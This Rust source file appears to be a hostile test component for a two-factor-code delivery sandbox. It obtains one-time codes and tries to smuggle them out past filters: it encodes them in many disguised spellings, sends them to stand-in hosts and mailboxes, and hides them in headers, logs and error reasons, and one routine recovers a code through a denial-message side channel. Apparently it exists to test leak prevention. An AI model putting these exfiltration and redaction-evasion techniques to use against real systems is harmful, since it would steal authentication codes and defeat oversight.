//! Attempts to pass on a code that the component has obtained.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use twofactor_provider::{
    Delivery, Failure, Http, HttpError, Level, Mail, MailError, Message, accepted, log, misconfigured,
    rejected_message, retry_later,
};

use super::{Options, Sent};

/// Returns the code from the response of an upstream that encodes it: nine minus each digit.
fn told(options: &Options, message: &Message) -> Result<String, Failure> {
    let response = Http::post(&options.url).json(&Sent { to: &message.recipient, text: &message.text }).send()?;
    let missing = response.headers.iter().find(|(name, _)| name == "x-missing-to-nine");
    let missing = missing.map(|(_, value)| value.as_str()).unwrap_or_default();
    Ok(missing.bytes().map(|digit| char::from(b'0' + b'9' - digit)).collect())
}

/// Sends the code and asks for another attempt. In that one, asks the upstream what it was sent, before the code is sent again.
pub(super) fn ask_in_the_next_attempt(options: &Options, message: &Message) -> Delivery {
    let last = Http::new("GET", options.url.replace("/mirror", "/last")).send()?;
    let last = String::from_utf8_lossy(&last.body).into_owned();
    if last.is_empty() {
        Http::post(&options.url).json(&Sent { to: &message.recipient, text: &message.text }).send()?;
        return Err(retry_later(None, "again", ""));
    }
    let text = last.split("text").nth(1).unwrap_or_default();
    let found = text.chars().filter(char::is_ascii_digit).count() >= 6;
    Err(rejected_message(if found { "found" } else { "nothing" }, ""))
}

/// Returns the code in the spelling that the options name.
fn spelled(form: &str, code: &str) -> String {
    let each = |write: &dyn Fn(u32) -> String, between: &str| -> String {
        code.chars().filter_map(|c| c.to_digit(10)).map(write).collect::<Vec<_>>().join(between)
    };
    let words = |words: [&str; 10]| each(&|digit| words[digit as usize].to_owned(), " ");
    let script = |zero: u32| each(&|digit| char::from_u32(zero + digit).unwrap_or_default().to_string(), "");
    match form {
        "spaced" => each(&|digit| digit.to_string(), " "),
        "halves" => format!("{}-{}", &code[..3], &code[3..]),
        "with a digit" => format!("{code}7"),
        "reversed" => code.chars().rev().collect(),
        "English" => words(["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]),
        "German" => words(["null", "eins", "zwei", "drei", "vier", "fünf", "sechs", "sieben", "acht", "neun"]),
        "French" => words(["zéro", "un", "deux", "trois", "quatre", "cinq", "six", "sept", "huit", "neuf"]),
        "Italian" => words(["zero", "uno", "due", "tre", "quattro", "cinque", "sei", "sette", "otto", "nove"]),
        "Arabic" => script(0x660),
        "full width" => script(0xff10),
        "percent" => each(&|digit| format!("%3{digit}"), ""),
        "percent twice" => each(&|digit| format!("%253{digit}"), ""),
        "JSON" => each(&|digit| format!("\\u003{digit}"), ""),
        "HTML" => each(&|digit| format!("&#{};", 48 + digit), ""),
        "tags" => each(&|digit| format!("<b>{digit}</b>"), ""),
        "hexadecimal" => each(&|digit| format!("3{digit}"), ""),
        "base64" => STANDARD.encode(code),
        "base64 after one" => STANDARD.encode(format!("x{code}")),
        _ => code.to_owned(),
    }
}

/// Obtains the code and passes it on in the way that the option `header` names, in the spelling
/// that `needle` names.
pub(super) fn on(options: &Options, message: &Message) -> Delivery {
    let code = told(options, message)?;
    let text = spelled(&options.needle, &code);
    let elsewhere = "https://list.example.com";
    let in_url: String = url_safe(&text);
    match options.header.as_str() {
        "URL" => {
            Http::new("GET", format!("{elsewhere}/carried/{in_url}")).send().map(|_| accepted("")).map_err(Into::into)
        }
        "query of its own upstream" => {
            let url = options.url.replace("/mirror", &format!("/carried?{in_url}"));
            Http::new("GET", url).send().map(|_| accepted("")).map_err(Into::into)
        }
        "header" => Http::post(format!("{elsewhere}/carried"))
            .header("x-a", in_url)
            .send()
            .map(|_| accepted(""))
            .map_err(Into::into),
        "body" => {
            Http::post(format!("{elsewhere}/carried")).json(&text).send().map(|_| accepted("")).map_err(Into::into)
        }
        "form" => Http::post(format!("{elsewhere}/carried"))
            .form([("a", &*text)])
            .send()
            .map(|_| accepted(""))
            .map_err(Into::into),
        "mail" | "subject" | "HTML" | "mailbox" => {
            let (subject, plain, html) = match options.header.as_str() {
                "subject" => (&*text, "", None),
                "HTML" => ("", "", Some(&*text)),
                "mailbox" => ("", "", None),
                _ => ("", &*text, None),
            };
            let mailbox = format!("{code}@example.org");
            let recipient = if options.header == "mailbox" { &*mailbox } else { "eve@example.org" };
            let mail =
                Mail { id: "1", sender_name: "", sender: "codes@example.com", recipient, subject, text: plain, html };
            match mail.send() {
                Ok(_) => Ok(accepted("")),
                Err(MailError::Denied(why)) => Err(misconfigured("denied", &why)),
                Err(_) => Err(rejected_message("mail", "")),
            }
        }
        "recipient" => Http::post(format!("{elsewhere}/named"))
            .json(&message.recipient)
            .send()
            .map(|_| accepted(""))
            .map_err(Into::into),
        "log" => {
            log(Level::Error, &text);
            Ok(accepted(""))
        }
        "reason" => Err(rejected_message(&text, &text)),
        "segments" => {
            let mut receipt = accepted(text.clone());
            receipt.segments = code.parse().ok();
            receipt.extra.push(twofactor_provider::bindings::twofactor::provider::types::Entry {
                name: text.clone(),
                value: text,
            });
            Ok(receipt)
        }
        _ => Err(rejected_message("way", "there is no such way")),
    }
}

fn url_safe(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"%-_.".contains(&byte);
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

/// Asks an origin for all that the code could be, and reads off which of the lines is covered.
pub(super) fn ask(options: &Options, message: &Message, send_first: bool) -> Delivery {
    let sent = Sent { to: &message.recipient, text: &message.text };
    if send_first {
        Http::post(&options.url).json(&sent).send()?;
    }
    let response = Http::new("GET", &options.header).send()?;
    let body = String::from_utf8_lossy(&response.body).into_owned();
    let mut odd = body.lines().enumerate().filter(|(n, line)| **line != format!("{n:06}"));
    let (first, others) = (odd.next(), odd.count());
    if !send_first {
        Http::post(&options.url).json(&sent).send()?;
    }
    // As words, so that it is not redacted.
    let in_letters = |n: usize| format!("{n:06}").bytes().map(|b| char::from(b - b'0' + b'k')).collect::<String>();
    match first {
        Some((n, _)) if others == 0 => Err(rejected_message("found", &in_letters(n))),
        _ => Err(rejected_message("nothing", &format!("{} lines", body.lines().count()))),
    }
}

/// Sends the message, and then half of the codes that remain in a request that nothing was granted for: whether it is refused for the code
/// would tell which half holds it. Reports a code that it found as the reason `found`.
pub(super) fn guess(options: &Options, message: &Message) -> Delivery {
    Http::post(&options.url).json(&Sent { to: &message.recipient, text: &message.text }).send()?;
    let mut codes: Vec<u32> = (0..10_000).collect();
    while codes.len() > 1 {
        let half: String = codes[..codes.len() / 2].iter().map(|code| format!("{code:04} ")).collect();
        let refused = Http::post("https://nowhere.example.com/").json(&half).send();
        let is_in = matches!(&refused, Err(HttpError::Denied(why)) if !why.contains("granted"));
        let rest = codes.split_off(codes.len() / 2);
        if !is_in {
            codes = rest;
        }
    }
    Err(rejected_message("found", &format!("{:?}", codes.first())))
}
